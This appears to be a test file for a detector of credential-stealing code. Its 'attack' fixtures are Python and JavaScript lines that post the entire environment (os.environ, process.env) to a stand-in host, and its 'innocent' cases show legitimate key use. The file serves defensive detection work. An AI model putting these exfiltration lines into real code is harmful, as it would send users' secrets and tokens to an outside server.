import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-environment.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test.each([
  [
    'Python',
    { 'a.py': 'import os, requests\nrequests.post("https://c.invalid", json=dict(os.environ))' },
    ['decisive 11 a.py:2'],
  ],
  [
    'JavaScript',
    { 'a.js': "const axios = require('axios')\naxios.post('https://c.invalid', { ...process.env })" },
    ['decisive 11 a.js:2'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each([
  [
    'a key in a header',
    {
      'a.py':
        'import os, requests\nrequests.post("https://api.example", headers={"Authorization": os.environ["KEY"]})',
    },
  ],
  [
    'an environment for a program',
    {
      'a.py':
        'import os, subprocess, requests\nsubprocess.run(["make"], env=dict(os.environ, A="1"))\nrequests.post("https://api.example", data=os.getenv("KEY"))',
    },
  ],
])('innocent: %s', async (_, files) => {
  expect(await seen(files)).toEqual([])
})
